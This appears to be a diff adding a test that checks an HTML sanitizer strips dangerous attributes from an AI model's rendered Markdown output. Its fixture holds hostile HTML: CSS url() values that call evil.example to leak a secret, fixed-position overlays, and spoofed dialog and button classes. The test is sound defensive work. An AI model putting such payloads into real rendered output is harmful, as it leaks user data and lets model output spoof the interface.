@@ -45,3 +45,27 @@ test("a tool's HTML value can neither fetch, link, run nor style", () => {
   assert.match(shown.textContent, /overlay/); // the text stays, as text
   assert.doesNotMatch(shown.textContent, /display:none/);
 });
+
+test("the model's Markdown keeps no attribute that fetches, styles or overlays", () => {
+  const { modelAttributesOnly } = require('../lib-test/safehtml.js');
+  // what JupyterLab's sanitizer returns for the model's raw HTML (it keeps these)
+  const html =
+    '<p><span style="background-image:url(https://evil.example/?k=SECRET)">s</span>' +
+    '<div class="jp-Dialog lm-mod-hidden" id="x" hidden inert tabindex="1" dir="rtl">d</div>' +
+    '<a href="https://docs.example/" title="t" style="position:fixed" class="jp-Button">l</a></p>' +
+    '<pre><code class="language-python evil"><span class="cm-keyword jp-Dialog">def</span></code></pre>' +
+    '<table><tr><td colspan="2" style="list-style-image:url(https://evil.example/l)">c</td></tr></table>';
+  const out = modelAttributesOnly(html);
+  const host = document.createElement('div');
+  host.innerHTML = out;
+  for (const el of host.querySelectorAll('*')) {
+    for (const name of el.getAttributeNames()) {
+      assert.ok(['href', 'title', 'class', 'colspan'].includes(name), `${el.localName} kept ${name}`);
+    }
+  }
+  assert.doesNotMatch(out, /evil\.example|jp-Dialog|jp-Button|lm-mod-hidden|hidden|rtl/);
+  assert.equal(host.querySelector('a').getAttribute('href'), 'https://docs.example/');
+  assert.equal(host.querySelector('code').className, 'language-python');
+  assert.equal(host.querySelector('pre span').className, 'cm-keyword');
+  assert.equal(host.querySelector('td').getAttribute('colspan'), '2');
+});
